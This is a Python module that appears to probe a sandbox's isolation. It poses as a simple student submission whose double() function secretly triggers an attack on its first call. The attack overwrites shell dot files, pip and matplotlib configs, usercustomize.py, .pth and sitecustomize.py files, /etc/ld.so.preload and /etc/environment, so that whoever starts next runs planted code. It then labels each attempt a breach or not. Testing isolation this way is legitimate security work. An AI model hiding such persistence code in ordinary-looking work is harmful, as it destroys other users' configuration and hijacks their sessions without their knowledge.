"""usercustomize.py, .pth files, dot files: whoever starts next in this home runs them."""

import errno
import os
import site
import sys

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


BAD = "print('BREACH a start-up file of another student was run')\n"
FILES = [
    ".pythonrc.py", ".pdbrc", ".ipython/profile_default/startup/00-left.py", ".config/matplotlib/matplotlibrc", ".bashrc",
    ".profile", ".local/bin/python", ".config/pip/pip.conf", ".keras/keras.json", ".numpy-site.cfg", ".pydistutils.cfg",
]


def write(path, text=BAD):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def attack():
    home = os.path.expanduser("~")
    for name in FILES:
        attempt(name, lambda: write(os.path.join(home, name)))
    packages = site.getusersitepackages()
    attempt("usercustomize", lambda: write(f"{packages}/usercustomize.py"))
    attempt("a .pth file", lambda: write(f"{packages}/left.pth", "import os; " + BAD))
    for folder in [path for path in sys.path if path.startswith("/")][:6]:
        attempt(f"sitecustomize in {folder}", lambda: write(f"{folder}/sitecustomize.py"))
    for path in ("/etc/ld.so.preload", "/etc/python3/sitecustomize.py", "/etc/environment", "/opt/venv/pyvenv.cfg"):
        attempt(path, lambda: write(path))


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
